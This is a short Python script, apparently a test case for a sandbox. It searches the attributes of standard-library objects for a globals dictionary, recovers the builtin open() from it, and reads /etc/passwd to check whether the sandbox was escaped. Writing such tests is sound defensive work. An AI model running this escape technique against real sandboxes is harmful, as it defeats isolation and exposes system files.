# tries: every name that dir() shows, tried on many objects
# class: reader
# stops: 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import functools
import json
import random


def look(thing, deep):
    for name in dir(thing):
        try:
            value = getattr(thing, name)
        except Exception:
            continue
        if type(value) is dict and "__builtins__" in value:
            use(dig(value))
            raise SystemExit
        if deep:
            look(value, deep - 1)


for thing in json.dumps, json.JSONEncoder, random.Random, functools.partial:
    look(thing, 1)
